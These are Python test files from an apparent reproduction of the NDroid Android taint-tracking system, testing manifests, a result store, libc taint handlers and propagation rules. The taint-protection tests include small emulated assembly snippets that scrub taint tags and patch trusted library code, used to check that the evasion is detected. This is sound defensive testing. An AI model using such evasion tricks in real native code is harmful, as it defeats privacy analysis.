    base = JobSpec(id="scenario:ephone", kind="scenario", target="ephone")
    assert base.digest() != JobSpec(
        id="scenario:ephone", kind="scenario", target="ephone",
        seed=1).digest()
    assert base.digest() != JobSpec(
        id="scenario:ephone", kind="scenario", target="ephone",
        faults="decode@1").digest()
    assert base.digest() != JobSpec(
        id="scenario:ephone", kind="scenario", target="ephone",
        trace=True).digest()


def test_digest_covers_the_schema_version():
    spec = JobSpec(id="x", kind="scenario", target="ephone")
    canonical = json.dumps({"schema": FARM_SCHEMA_VERSION, **spec.to_dict()},
                           sort_keys=True, separators=(",", ":"))
    # v2: corpus-kind jobs plus the scale/chunk spec fields.
    assert FARM_SCHEMA_VERSION == 2
    assert str(FARM_SCHEMA_VERSION) in canonical


def test_unknown_kind_rejected():
    with pytest.raises(ValueError):
        JobSpec(id="x", kind="apk", target="ephone")


def test_manifest_json_round_trip(tmp_path):
    manifest = Manifest(jobs=[
        JobSpec(id="scenario:ephone", kind="scenario", target="ephone"),
        JobSpec(id="market:com.market.ephone", kind="market",
                target="com.market.ephone", events=6, faults="decode@1"),
    ])
    path = tmp_path / "manifest.json"
    manifest.save(str(path))
    loaded = Manifest.load(str(path))
    assert [job.digest() for job in loaded] == \
        [job.digest() for job in manifest]


def test_builtin_covers_scenarios_and_market_apps():
    manifest = Manifest.load("builtin")
    kinds = {job.kind for job in manifest}
    assert kinds == {"scenario", "market"}
    assert len(manifest) >= 4
    ids = [job.id for job in manifest]
    assert "scenario:ephone" in ids
    assert "market:com.market.ephone" in ids
    assert len(set(job.digest() for job in manifest)) == len(manifest)


def test_shard_round_robin():
    manifest = Manifest(jobs=[
        JobSpec(id=f"scenario:{i}", kind="scenario", target="ephone")
        for i in range(5)])
    shards = manifest.shard(2)
    assert [len(s) for s in shards] == [3, 2]
    assert [job.id for job in shards[0]] == \
        ["scenario:0", "scenario:2", "scenario:4"]


# -- sharded streamed manifests ----------------------------------------------

def _specs(count):
    return (JobSpec(id=f"corpus:{i}", kind="corpus", target=str(i),
                    seed=2014, scale=0.5, chunk=4) for i in range(count))


def test_sharded_manifest_round_trip(tmp_path):
    directory = str(tmp_path / "manifest")
    written = ShardedManifest.write(directory, _specs(25), shard_size=10)
    assert len(written) == 25
    assert written.shard_count == 3
    assert [s.jobs for s in written.shards] == [10, 10, 5]

    loaded = ShardedManifest.load(directory)
    assert len(loaded) == 25
    assert [spec.digest() for spec in loaded] == \
        [spec.digest() for spec in _specs(25)]
    # The generic loader routes a directory to the sharded loader.
    via_manifest = Manifest.load(directory)
    assert isinstance(via_manifest, ShardedManifest)
    assert len(via_manifest) == 25


def test_shard_digests_stable_across_writes(tmp_path):
    a = ShardedManifest.write(str(tmp_path / "a"), _specs(23),
                              shard_size=8)
    b = ShardedManifest.write(str(tmp_path / "b"), _specs(23),
                              shard_size=8)
    assert [s.digest for s in a.shards] == [s.digest for s in b.shards]
    assert all(a.verify_shard(i) for i in range(a.shard_count))
    # Corruption is detected by the recorded digest.
    with open(a.shard_path(0), "a") as handle:
        handle.write("{}\n")
    assert not a.verify_shard(0)


def test_shard_iteration_is_lazy(tmp_path):
    manifest = ShardedManifest.write(str(tmp_path / "m"), _specs(12),
                                     shard_size=5)
    first = next(iter(manifest.iter_shard(1)))
    assert first.id == "corpus:5"
    # len() comes from the index alone, no shard reads.
    os.unlink(manifest.shard_path(2))
    assert len(manifest) == 12


def test_iter_corpus_jobs_covers_the_corpus_exactly():
    from repro.corpus.generator import CorpusGenerator
    total = len(CorpusGenerator(seed=2014, scale=0.003))
    jobs = list(iter_corpus_jobs(scale=0.003, seed=2014, chunk=16))
    assert sum(job.chunk for job in jobs) == total
    assert jobs[0].target == "0"
    starts = [int(job.target) for job in jobs]
    assert starts == sorted(starts)
    assert all(job.kind == "corpus" for job in jobs)
    # The last chunk is clipped, never padded past the corpus.
    assert int(jobs[-1].target) + jobs[-1].chunk == total
