"""Farm manifests: digest stability and corpus construction."""

import json

import pytest

from repro.farm.manifest import FARM_SCHEMA_VERSION, JobSpec, Manifest


def test_digest_is_stable_across_instances():
    a = JobSpec(id="scenario:ephone", kind="scenario", target="ephone")
    b = JobSpec(id="scenario:ephone", kind="scenario", target="ephone")
    assert a.digest() == b.digest()
    assert len(a.digest()) == 64


def test_digest_changes_with_any_field():
    base = JobSpec(id="scenario:ephone", kind="scenario", target="ephone")
    assert base.digest() != JobSpec(
        id="scenario:ephone", kind="scenario", target="ephone",
        seed=1).digest()
    assert base.digest() != JobSpec(
        id="scenario:ephone", kind="scenario", target="ephone",
        faults="decode@1").digest()
    assert base.digest() != JobSpec(
        id="scenario:ephone", kind="scenario", target="ephone",
        trace=True).digest()


def test_digest_covers_the_schema_version():
    spec = JobSpec(id="x", kind="scenario", target="ephone")
    canonical = json.dumps({"schema": FARM_SCHEMA_VERSION, **spec.to_dict()},
                           sort_keys=True, separators=(",", ":"))
    assert FARM_SCHEMA_VERSION == 1
    assert str(FARM_SCHEMA_VERSION) in canonical


def test_unknown_kind_rejected():
    with pytest.raises(ValueError):
        JobSpec(id="x", kind="apk", target="ephone")


def test_manifest_json_round_trip(tmp_path):
    manifest = Manifest(jobs=[
        JobSpec(id="scenario:ephone", kind="scenario", target="ephone"),
        JobSpec(id="market:com.market.ephone", kind="market",
                target="com.market.ephone", events=6, faults="decode@1"),
    ])
    path = tmp_path / "manifest.json"
    manifest.save(str(path))
    loaded = Manifest.load(str(path))
    assert [job.digest() for job in loaded] == \
        [job.digest() for job in manifest]


def test_builtin_covers_scenarios_and_market_apps():
    manifest = Manifest.load("builtin")
    kinds = {job.kind for job in manifest}
    assert kinds == {"scenario", "market"}
    assert len(manifest) >= 4
    ids = [job.id for job in manifest]
    assert "scenario:ephone" in ids
    assert "market:com.market.ephone" in ids
    assert len(set(job.digest() for job in manifest)) == len(manifest)


def test_shard_round_robin():
    manifest = Manifest(jobs=[
        JobSpec(id=f"scenario:{i}", kind="scenario", target="ephone")
        for i in range(5)])
    shards = manifest.shard(2)
    assert [len(s) for s in shards] == [3, 2]
    assert [job.id for job in shards[0]] == \
        ["scenario:0", "scenario:2", "scenario:4"]
