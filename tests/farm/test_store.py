"""The digest-keyed result store (crash-consistent writes, verified reads)."""

import json
import os

from repro.farm.store import (
    ResultStore,
    atomic_write_json,
    read_verified_json,
)

DIGEST = "ab" * 32
OTHER = "cd" * 32


def test_miss_then_put_then_hit(tmp_path):
    store = ResultStore(str(tmp_path / "cache"))
    assert store.get(DIGEST) is None
    assert store.misses == 1
    store.put(DIGEST, {"status": "ok", "leaks": []})
    assert DIGEST in store
    assert store.get(DIGEST) == {"status": "ok", "leaks": []}
    assert store.hits == 1
    assert len(store) == 1
    assert store.digests() == [DIGEST]


def test_corrupt_entry_is_dropped_and_treated_as_miss(tmp_path):
    store = ResultStore(str(tmp_path))
    path = os.path.join(str(tmp_path), f"{DIGEST}.json")
    with open(path, "w") as handle:
        handle.write('{"status": "ok"')  # truncated write
    assert store.get(DIGEST) is None
    assert store.misses == 1
    assert not os.path.exists(path)  # poison removed: the job re-runs


def test_put_leaves_no_temp_files(tmp_path):
    store = ResultStore(str(tmp_path))
    store.put(DIGEST, {"status": "ok"})
    assert sorted(os.listdir(str(tmp_path))) == [f"{DIGEST}.json"]


def test_put_fsyncs_the_temp_file_before_the_rename(tmp_path, monkeypatch):
    # The crash-consistency contract: data reaches disk before the
    # rename makes it visible, and the directory entry is flushed after.
    synced = []
    real_fsync = os.fsync
    monkeypatch.setattr(os, "fsync", lambda fd: (synced.append(fd),
                                                 real_fsync(fd))[1])
    replaced = []
    real_replace = os.replace
    monkeypatch.setattr(
        os, "replace",
        lambda src, dst: (replaced.append(len(synced)),
                          real_replace(src, dst))[1])
    atomic_write_json(str(tmp_path / "entry.json"), {"status": "ok"})
    # At least one fsync (the temp file) strictly before the rename,
    # and one more (the directory) after it.
    assert replaced == [1]
    assert len(synced) == 2


def test_truncated_entry_reads_as_cache_miss_after_commit(tmp_path):
    """Regression: a partial result file must never resume as data."""
    store = ResultStore(str(tmp_path))
    store.put(DIGEST, {"digest": DIGEST, "status": "ok", "leaks": []})
    path = os.path.join(str(tmp_path), f"{DIGEST}.json")
    size = os.path.getsize(path)
    with open(path, "r+b") as handle:
        handle.truncate(size // 2)          # post-fsync media damage
    assert store.get(DIGEST) is None        # detected, treated as a miss
    assert store.misses == 1
    assert not os.path.exists(path)         # dropped: the job re-runs


def test_digest_field_mismatch_reads_as_damage(tmp_path):
    # Parses fine as JSON, but records a different job's digest — e.g.
    # a file renamed under the wrong key.  Must read as a miss.
    store = ResultStore(str(tmp_path))
    store.put(DIGEST, {"digest": OTHER, "status": "ok"})
    assert store.get(DIGEST) is None
    assert store.misses == 1
    # Directly through the reader too.
    path = str(tmp_path / "direct.json")
    atomic_write_json(path, {"digest": OTHER, "status": "ok"})
    assert read_verified_json(path, digest=DIGEST) is None
    assert read_verified_json(path, digest=OTHER) == \
        {"digest": OTHER, "status": "ok"}
    assert read_verified_json(path) is not None  # no expectation, no check


def test_non_dict_payload_reads_as_damage(tmp_path):
    path = str(tmp_path / "weird.json")
    with open(path, "w") as handle:
        json.dump(["not", "a", "result"], handle)
    assert read_verified_json(path) is None


def test_verify_audits_without_dropping(tmp_path):
    store = ResultStore(str(tmp_path))
    store.put(DIGEST, {"digest": DIGEST, "status": "ok"})
    store.put(OTHER, {"digest": OTHER, "status": "ok"})
    bad_path = os.path.join(str(tmp_path), f"{OTHER}.json")
    with open(bad_path, "r+b") as handle:
        handle.truncate(10)
    good, bad = store.verify()
    assert good == [DIGEST]
    assert bad == [OTHER]
    # Non-destructive: the damaged entry is still there for forensics.
    assert os.path.exists(bad_path)
