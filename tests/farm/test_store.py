"""The digest-keyed result store."""

import os

from repro.farm.store import ResultStore

DIGEST = "ab" * 32


def test_miss_then_put_then_hit(tmp_path):
    store = ResultStore(str(tmp_path / "cache"))
    assert store.get(DIGEST) is None
    assert store.misses == 1
    store.put(DIGEST, {"status": "ok", "leaks": []})
    assert DIGEST in store
    assert store.get(DIGEST) == {"status": "ok", "leaks": []}
    assert store.hits == 1
    assert len(store) == 1
    assert store.digests() == [DIGEST]


def test_corrupt_entry_is_dropped_and_treated_as_miss(tmp_path):
    store = ResultStore(str(tmp_path))
    path = os.path.join(str(tmp_path), f"{DIGEST}.json")
    with open(path, "w") as handle:
        handle.write('{"status": "ok"')  # truncated write
    assert store.get(DIGEST) is None
    assert store.misses == 1
    assert not os.path.exists(path)  # poison removed: the job re-runs


def test_put_leaves_no_temp_files(tmp_path):
    store = ResultStore(str(tmp_path))
    store.put(DIGEST, {"status": "ok"})
    assert sorted(os.listdir(str(tmp_path))) == [f"{DIGEST}.json"]
