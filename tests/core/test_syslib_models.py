"""Table VI — the modelled standard-function taint handlers.

Each test drives a real libc call from assembled native code with seeded
taints and checks the system-library hook engine's propagation.
"""

import pytest

from repro.common.taint import TAINT_CONTACTS, TAINT_IMEI, TAINT_SMS
from repro.core import NDroid
from repro.cpu.assembler import assemble
from repro.framework import AndroidPlatform

CODE_BASE = 0x6100_0000
DATA = 0x0005_0000


@pytest.fixture
def env():
    platform = AndroidPlatform()
    ndroid = NDroid.attach(platform)
    return platform, ndroid


def call_libc(platform, name, *args):
    return platform.emu.call(platform.libc.address_of(name), args=args)


class TestMemoryModels:
    def test_memcpy_listing3(self, env):
        """The paper's Listing 3: per-byte source-to-dest propagation."""
        platform, ndroid = env
        engine = ndroid.taint_engine
        platform.memory.write_bytes(DATA, b"abcd")
        engine.set_memory(DATA, 2, TAINT_SMS)
        call_libc(platform, "memcpy", DATA + 64, DATA, 4)
        assert engine.memory_bytes(DATA + 64, 4) == \
            [TAINT_SMS, TAINT_SMS, 0, 0]

    def test_memset_spreads_value_taint(self, env):
        platform, ndroid = env
        ndroid.taint_engine.set_register(1, TAINT_IMEI)
        call_libc(platform, "memset", DATA, 0x41, 8)
        assert ndroid.taint_engine.get_memory(DATA, 8) == TAINT_IMEI

    def test_malloc_returns_clean_memory(self, env):
        platform, ndroid = env
        pointer = call_libc(platform, "malloc", 32)
        # Poison then free + realloc cycle: fresh allocations are clean.
        ndroid.taint_engine.set_memory(pointer, 32, TAINT_SMS)
        call_libc(platform, "free", pointer)
        assert ndroid.taint_engine.get_memory(pointer, 32) == 0
        fresh = call_libc(platform, "malloc", 32)
        assert ndroid.taint_engine.get_memory(fresh, 32) == 0

    def test_realloc_moves_taints(self, env):
        platform, ndroid = env
        pointer = call_libc(platform, "malloc", 8)
        platform.memory.write_bytes(pointer, b"secret!!")
        ndroid.taint_engine.set_memory(pointer, 8, TAINT_CONTACTS)
        bigger = call_libc(platform, "realloc", pointer, 64)
        assert ndroid.taint_engine.get_memory(bigger, 8) == TAINT_CONTACTS


class TestStringModels:
    def test_strcpy(self, env):
        platform, ndroid = env
        platform.memory.write_cstring(DATA, "imei")
        ndroid.taint_engine.set_memory(DATA, 5, TAINT_IMEI)
        call_libc(platform, "strcpy", DATA + 64, DATA)
        assert ndroid.taint_engine.get_memory(DATA + 64, 4) == TAINT_IMEI

    def test_strncpy_clears_padding(self, env):
        platform, ndroid = env
        platform.memory.write_cstring(DATA, "ab")
        ndroid.taint_engine.set_memory(DATA, 3, TAINT_SMS)
        ndroid.taint_engine.set_memory(DATA + 64, 8, TAINT_IMEI)  # stale
        call_libc(platform, "strncpy", DATA + 64, DATA, 8)
        assert ndroid.taint_engine.get_memory(DATA + 64, 3) == TAINT_SMS
        assert ndroid.taint_engine.get_memory(DATA + 67, 5) == 0

    def test_strcat_appends_source_taint(self, env):
        platform, ndroid = env
        platform.memory.write_cstring(DATA, "clean")
        platform.memory.write_cstring(DATA + 64, "dirty")
        ndroid.taint_engine.set_memory(DATA + 64, 6, TAINT_SMS)
        call_libc(platform, "strcat", DATA, DATA + 64)
        assert ndroid.taint_engine.get_memory(DATA, 5) == 0
        assert ndroid.taint_engine.get_memory(DATA + 5, 5) == TAINT_SMS

    def test_strdup_copies_taint(self, env):
        platform, ndroid = env
        platform.memory.write_cstring(DATA, "payload")
        ndroid.taint_engine.set_memory(DATA, 8, TAINT_CONTACTS)
        copy = call_libc(platform, "strdup", DATA)
        assert ndroid.taint_engine.get_memory(copy, 7) == TAINT_CONTACTS

    def test_strlen_result_derives_from_content(self, env):
        platform, ndroid = env
        platform.memory.write_cstring(DATA, "abc")
        ndroid.taint_engine.set_memory(DATA, 4, TAINT_SMS)
        call_libc(platform, "strlen", DATA)
        assert ndroid.taint_engine.get_register(0) == TAINT_SMS

    def test_atoi_result_tainted(self, env):
        platform, ndroid = env
        platform.memory.write_cstring(DATA, "1234")
        ndroid.taint_engine.set_memory(DATA, 5, TAINT_IMEI)
        result = call_libc(platform, "atoi", DATA)
        assert result == 1234
        assert ndroid.taint_engine.get_register(0) == TAINT_IMEI

    def test_strchr_result_pointer_taint(self, env):
        platform, ndroid = env
        platform.memory.write_cstring(DATA, "abc")
        ndroid.taint_engine.set_register(0, TAINT_SMS)
        call_libc(platform, "strchr", DATA, ord("b"))
        assert ndroid.taint_engine.get_register(0) == TAINT_SMS

    def test_sprintf_output_tainted(self, env):
        platform, ndroid = env
        platform.memory.write_cstring(DATA, "%s!")
        platform.memory.write_cstring(DATA + 64, "imei")
        ndroid.taint_engine.set_memory(DATA + 64, 5, TAINT_IMEI)
        call_libc(platform, "sprintf", DATA + 128, DATA, DATA + 64)
        assert platform.memory.read_cstring(DATA + 128) == b"imei!"
        assert ndroid.taint_engine.get_memory(DATA + 128, 4) == TAINT_IMEI
        # The literal '!' byte stays clean.
        assert ndroid.taint_engine.get_memory(DATA + 132, 1) == 0


class TestLibmModels:
    def test_result_derives_from_arguments(self, env):
        import struct
        platform, ndroid = env
        low, high = struct.unpack("<II", struct.pack("<d", 2.0))
        ndroid.taint_engine.set_register(0, TAINT_SMS)
        platform.emu.call(platform.libm.address_of("sqrt"),
                          args=(low, high))
        assert ndroid.taint_engine.get_register(0) == TAINT_SMS
        assert ndroid.taint_engine.get_register(1) == TAINT_SMS

    def test_clean_arguments_clean_result(self, env):
        import struct
        platform, ndroid = env
        low, high = struct.unpack("<II", struct.pack("<d", 2.0))
        platform.emu.call(platform.libm.address_of("sqrt"),
                          args=(low, high))
        assert ndroid.taint_engine.get_register(0) == 0


class TestModelledCallCounter:
    def test_counts_modelled_calls(self, env):
        platform, ndroid = env
        before = ndroid.syslib_hooks.modelled_calls
        call_libc(platform, "memcpy", DATA + 64, DATA, 4)
        call_libc(platform, "memset", DATA, 0, 4)
        assert ndroid.syslib_hooks.modelled_calls == before + 2
