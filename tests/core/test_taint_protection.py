"""Section VII extension — taint protection against evasion.

An attacker app that clears its own taint tags by writing into the DVM
stack (TaintDroid's interleaved taint slots), and one that patches a
trusted libc function; the protection monitor must flag both, and in
``restore`` mode undo the writes.
"""

import pytest

from repro.common.taint import TAINT_IMEI
from repro.core import NDroid
from repro.core.taint_protection import TaintProtection
from repro.cpu.assembler import assemble
from repro.dalvik import ClassDef, MethodBuilder
from repro.dalvik.heap import Slot
from repro.dalvik.stack import DVM_STACK_BASE
from repro.framework import AndroidPlatform

NATIVE_BASE = 0x6400_0000


def make_platform(mode="report"):
    platform = AndroidPlatform()
    NDroid.attach(platform)
    protection = TaintProtection.attach(platform, mode=mode)
    return platform, protection


def load_attacker(platform, source):
    program = assemble(source, base=NATIVE_BASE,
                       externs=platform.libc.symbols)
    platform.emu.load(NATIVE_BASE, program.code)
    platform.emu.memory_map.map(NATIVE_BASE, 0x1000, "libattack.so",
                                third_party=True)
    platform.kernel.sync_tasks_to_guest()
    platform.ndroid.refresh_view()
    return program


def test_requires_ndroid():
    platform = AndroidPlatform()
    with pytest.raises(RuntimeError):
        TaintProtection.attach(platform)


def test_bad_mode_rejected():
    platform = AndroidPlatform()
    NDroid.attach(platform)
    with pytest.raises(ValueError):
        TaintProtection.attach(platform, mode="panic")


class TestStackManipulation:
    ATTACK = f"""
    attack:                   ; scrub a taint slot in the DVM stack
        ldr r0, =0x{DVM_STACK_BASE - 0x100:x}
        mov r1, #0
        str r1, [r0]
        bx lr
    """

    def test_report_mode_flags_dvm_stack_write(self):
        platform, protection = make_platform("report")
        program = load_attacker(platform, self.ATTACK)
        platform.emu.call(program.entry("attack"))
        assert len(protection.stack_alerts()) == 1
        alert = protection.stack_alerts()[0]
        assert alert.region == "[dalvik stack]"
        assert not alert.restored
        # The write itself went through in report mode.
        assert platform.memory.read_u32(DVM_STACK_BASE - 0x100) == 0

    def test_restore_mode_undoes_the_write(self):
        platform, protection = make_platform("restore")
        target = DVM_STACK_BASE - 0x100
        platform.memory.write_u32(target, 0xDEAD)
        program = load_attacker(platform, self.ATTACK)
        platform.emu.call(program.entry("attack"))
        assert protection.stack_alerts()[0].restored
        assert platform.memory.read_u32(target) == 0xDEAD

    def test_taint_scrub_attack_end_to_end(self):
        """Attacker clears the frame taint slot of a tainted parameter.

        With protection in restore mode the taint survives and the leak
        is still caught by the Java sink.
        """
        for mode, taint_survives in (("report", False), ("restore", True)):
            platform, protection = make_platform(mode)
            cls = ClassDef("LScrub;")
            platform.vm.register_class(cls)
            # Push a frame holding a tainted value, attack its taint slot,
            # then read the taint back.
            method = MethodBuilder("LScrub;", "victim", "V", static=True,
                                   registers=2).ret_void().build()
            frame = platform.vm.stack.push_frame(method)
            frame.set(0, 1234, TAINT_IMEI)
            slot = frame.taint_address(0)
            attack = f"""
            attack:
                ldr r0, =0x{slot:x}
                mov r1, #0
                str r1, [r0]
                mov r0, r0
                bx lr
            """
            program = load_attacker(platform, attack)
            platform.emu.call(program.entry("attack"))
            assert protection.stack_alerts(), mode
            survived = frame.get_taint(0) == TAINT_IMEI
            assert survived == taint_survives, mode
            platform.vm.stack.pop_frame()


class TestTrustedCodeModification:
    def test_patching_libc_detected(self):
        platform, protection = make_platform("report")
        libc_base = platform.emu.memory_map.base_of("libc.so")
        attack = f"""
        attack:
            ldr r0, =0x{libc_base + 0x10:x}
            ldr r1, =0xdeadbeef
            str r1, [r0]
            bx lr
        """
        program = load_attacker(platform, attack)
        platform.emu.call(program.entry("attack"))
        alerts = protection.code_alerts()
        assert len(alerts) == 1
        assert alerts[0].region == "libc.so"

    def test_restore_mode_repairs_trusted_code(self):
        platform, protection = make_platform("restore")
        libdvm_base = platform.emu.memory_map.base_of("libdvm.so")
        original = platform.memory.read_u32(libdvm_base + 0x20)
        attack = f"""
        attack:
            ldr r0, =0x{libdvm_base + 0x20:x}
            ldr r1, =0x41414141
            str r1, [r0]
            mov r0, r0
            bx lr
        """
        program = load_attacker(platform, attack)
        platform.emu.call(program.entry("attack"))
        assert protection.code_alerts()[0].restored
        assert platform.memory.read_u32(libdvm_base + 0x20) == original


class TestNoFalsePositives:
    def test_normal_native_stores_not_flagged(self):
        platform, protection = make_platform("report")
        benign = """
        work:
            push {r4, lr}
            ldr r0, =scratch
            mov r1, #42
            str r1, [r0]
            pop {r4, pc}
        scratch:
            .space 8
        """
        program = load_attacker(platform, benign)
        platform.emu.call(program.entry("work"))
        assert not protection.alerts

    def test_system_code_writes_not_flagged(self):
        """The DVM itself writes its own stack constantly."""
        platform, protection = make_platform("report")
        cls = ClassDef("LOk;")
        platform.vm.register_class(cls)
        cls.add_method(MethodBuilder("LOk;", "main", "I", static=True,
                                     registers=2)
                       .const(0, 5).ret(0).build())
        platform.vm.call_main("LOk;->main")
        assert not protection.alerts
