"""The iref-keyed shadow memory vs the moving GC (DESIGN ablation).

NDroid keys its Java-object shadow taints by indirect reference precisely
because the collector moves objects: "as the direct pointers of Java
objects may be changed, the shadow memory uses the indirect reference as
key" (Section V.B).  These tests demonstrate both halves: the iref-keyed
store survives a collection, and a direct-pointer-keyed store provably
breaks.
"""

import pytest

from repro.common.taint import TAINT_IMEI, TAINT_SMS
from repro.core import NDroid
from repro.core.taint_engine import TaintEngine
from repro.dalvik import ClassDef, MethodBuilder
from repro.dalvik.heap import Slot
from repro.framework import AndroidPlatform
from repro.jni.slots import jni_offset


@pytest.fixture
def env():
    platform = AndroidPlatform()
    ndroid = NDroid.attach(platform)
    return platform, ndroid


def test_iref_shadow_survives_gc(env):
    platform, ndroid = env
    record = platform.vm.heap.alloc_string("moving secret",
                                           taint=TAINT_SMS)
    iref = platform.vm.irt.add_global(record.address)
    ndroid.taint_engine.set_iref(iref, TAINT_SMS)
    old_address = record.address
    platform.vm.gc()
    assert record.address != old_address
    # The iref still decodes and its shadow taint is intact.
    assert platform.vm.irt.decode(iref) == record.address
    assert ndroid.taint_engine.get_iref(iref) == TAINT_SMS


def test_direct_pointer_keying_breaks_under_gc(env):
    """The counterfactual design: keying by raw address goes stale."""
    platform, __ = env
    engine = TaintEngine()
    record = platform.vm.heap.alloc_string("moving secret")
    platform.vm.irt.add_global(record.address)
    # Hypothetical NDroid that keys object shadow by direct pointer:
    engine.set_memory(record.address, record.byte_size(), TAINT_SMS)
    platform.vm.gc()
    # The taint is still attached to the OLD address...
    assert engine.get_memory(record.address, record.byte_size()) == 0
    # ...where no object lives anymore.
    from repro.common.errors import DalvikError
    new_address = record.address
    assert platform.vm.heap.contains(new_address)


def test_end_to_end_leak_survives_gc_between_calls(env):
    """A case-1'-style flow with a forced GC between the two native calls.

    The tainted String object moves while native code still holds state;
    NDroid must still catch the leak when the second call fetches it.
    """
    platform, ndroid = env
    cls = ClassDef("LGc;")
    platform.vm.register_class(cls)
    stash = cls.add_method(MethodBuilder("LGc;", "stash", "IL", static=True,
                                         native=True).build())
    fetch = cls.add_method(MethodBuilder("LGc;", "fetch", "L", static=True,
                                         native=True).build())
    from repro.cpu.assembler import assemble
    source = f"""
    stash_impl:
        push {{r4, lr}}
        mov r4, r0
        ldr ip, [r4]
        ldr ip, [ip, #{jni_offset('GetStringUTFChars')}]
        mov r1, r2
        mov r2, #0
        blx ip
        mov r1, r0
        ldr r0, =buffer
        ldr ip, =strcpy
        blx ip
        mov r0, #0
        pop {{r4, pc}}
    fetch_impl:
        push {{r4, lr}}
        mov r4, r0
        ldr ip, [r4]
        ldr ip, [ip, #{jni_offset('NewStringUTF')}]
        ldr r1, =buffer
        blx ip
        pop {{r4, pc}}
    .align 2
    buffer:
        .space 64
    """
    program = assemble(source, base=0x6300_0000,
                       externs=platform.libc.symbols)
    platform.emu.load(0x6300_0000, program.code)
    platform.emu.memory_map.map(0x6300_0000, 0x1000, "libgc.so",
                                third_party=True)
    platform.kernel.sync_tasks_to_guest()
    platform.ndroid.refresh_view()
    stash.native_address = program.entry("stash_impl")
    fetch.native_address = program.entry("fetch_impl")

    imei = platform.vm.heap.alloc_string(platform.device.imei,
                                         taint=TAINT_IMEI)
    keep = platform.vm.irt.add_global(imei.address)
    platform.vm.call_main("LGc;->stash",
                          [Slot(imei.address, TAINT_IMEI, True)])
    # Force two collections: every object moves (and moves back).
    platform.vm.gc()
    platform.vm.gc()
    result = platform.vm.call_main("LGc;->fetch")
    # The fetched String is tainted despite the moves.
    assert result.taint & TAINT_IMEI
    fetched = platform.vm.heap.get(result.value)
    assert fetched.taint & TAINT_IMEI
    assert fetched.text == platform.device.imei
