"""Table V — the instruction tracer's taint propagation rules.

Each test assembles a tiny third-party snippet, seeds shadow
register/memory taints, runs it under the tracer, and checks the
propagated labels against the Table V row it exercises.
"""

import pytest

from repro.common.taint import (TAINT_CLEAR, TAINT_CONTACTS, TAINT_IMEI,
                                TAINT_SMS)
from repro.core.instruction_tracer import InstructionTracer
from repro.core.taint_engine import TaintEngine
from repro.cpu.assembler import assemble
from repro.emulator import Emulator

CODE_BASE = 0x6000_0000
DATA = 0x0003_0000
STACK_TOP = 0x0800_0000


def run_traced(source, seed=None, third_party=True, handler_cache=True,
               use_tb=True):
    emu = Emulator(use_tb=use_tb)
    program = assemble("main:\n" + source + "\n bx lr", base=CODE_BASE)
    emu.load(CODE_BASE, program.code)
    emu.memory_map.map(CODE_BASE, 0x1000, "libapp.so",
                       third_party=third_party)
    emu.cpu.sp = STACK_TOP
    engine = TaintEngine()
    tracer = InstructionTracer(engine, emu.memory_map.is_third_party,
                               handler_cache=handler_cache)
    emu.add_tracer(tracer)
    if seed:
        seed(emu, engine)
    emu.call(program.entry("main"))
    return engine, tracer, emu


class TestDataProcessing:
    def test_binary_three_operand_unions(self):
        def seed(emu, engine):
            engine.set_register(1, TAINT_SMS)
            engine.set_register(2, TAINT_CONTACTS)
        engine, *_ = run_traced("add r0, r1, r2", seed)
        assert engine.get_register(0) == TAINT_SMS | TAINT_CONTACTS

    def test_binary_two_operand_accumulates(self):
        def seed(emu, engine):
            engine.set_register(0, TAINT_SMS)
            engine.set_register(1, TAINT_IMEI)
        engine, *_ = run_traced("add r0, r1", seed)
        assert engine.get_register(0) == TAINT_SMS | TAINT_IMEI

    def test_binary_with_immediate_copies_rm(self):
        def seed(emu, engine):
            engine.set_register(1, TAINT_SMS)
        engine, *_ = run_traced("add r0, r1, #4", seed)
        assert engine.get_register(0) == TAINT_SMS

    def test_unary_copies(self):
        def seed(emu, engine):
            engine.set_register(1, TAINT_IMEI)
        engine, *_ = run_traced("mvn r0, r1", seed)
        assert engine.get_register(0) == TAINT_IMEI

    def test_mov_immediate_clears(self):
        def seed(emu, engine):
            engine.set_register(0, TAINT_SMS)
        engine, *_ = run_traced("mov r0, #5", seed)
        assert engine.get_register(0) == 0

    def test_mov_register_copies(self):
        def seed(emu, engine):
            engine.set_register(3, TAINT_SMS)
        engine, *_ = run_traced("mov r0, r3", seed)
        assert engine.get_register(0) == TAINT_SMS

    def test_shifted_register_operand(self):
        def seed(emu, engine):
            engine.set_register(1, TAINT_SMS)
        engine, *_ = run_traced("mov r0, r1, lsl #2", seed)
        assert engine.get_register(0) == TAINT_SMS

    def test_register_shift_amount_unions(self):
        def seed(emu, engine):
            engine.set_register(1, TAINT_SMS)
            engine.set_register(2, TAINT_IMEI)
        engine, *_ = run_traced("mov r0, r1, lsl r2", seed)
        assert engine.get_register(0) == TAINT_SMS | TAINT_IMEI

    def test_compare_does_not_write_dest(self):
        def seed(emu, engine):
            engine.set_register(0, TAINT_SMS)
            engine.set_register(1, TAINT_IMEI)
        engine, *_ = run_traced("cmp r0, r1", seed)
        assert engine.get_register(0) == TAINT_SMS  # unchanged

    def test_multiply(self):
        def seed(emu, engine):
            engine.set_register(1, TAINT_SMS)
            engine.set_register(2, TAINT_IMEI)
        engine, *_ = run_traced("mul r0, r1, r2", seed)
        assert engine.get_register(0) == TAINT_SMS | TAINT_IMEI

    def test_movw_clears_movt_preserves(self):
        def seed(emu, engine):
            engine.set_register(0, TAINT_SMS)
        engine, *_ = run_traced("movt r0, #1", seed)
        assert engine.get_register(0) == TAINT_SMS
        engine, *_ = run_traced("movw r0, #1", seed)
        assert engine.get_register(0) == 0


class TestLoadStore:
    def test_ldr_unions_memory_and_base(self):
        """Table V LDR: t(Rd) = t(M[addr]) OR t(Rn)."""
        def seed(emu, engine):
            emu.cpu.write_reg(1, DATA)
            engine.set_register(1, TAINT_IMEI)       # tainted pointer
            engine.set_memory(DATA, 4, TAINT_SMS)    # tainted cell
        engine, *_ = run_traced("ldr r0, [r1]", seed)
        assert engine.get_register(0) == TAINT_SMS | TAINT_IMEI

    def test_tainted_address_propagates_to_untainted_value(self):
        """The paper's address-dependency rule."""
        def seed(emu, engine):
            emu.cpu.write_reg(1, DATA)
            engine.set_register(1, TAINT_CONTACTS)
        engine, *_ = run_traced("ldr r0, [r1]", seed)
        assert engine.get_register(0) == TAINT_CONTACTS

    def test_str_taints_memory(self):
        def seed(emu, engine):
            emu.cpu.write_reg(0, DATA)
            engine.set_register(1, TAINT_SMS)
        engine, *_ = run_traced("str r1, [r0]", seed)
        assert engine.get_memory(DATA, 4) == TAINT_SMS
        assert engine.get_memory(DATA + 4, 1) == 0

    def test_strb_taints_one_byte(self):
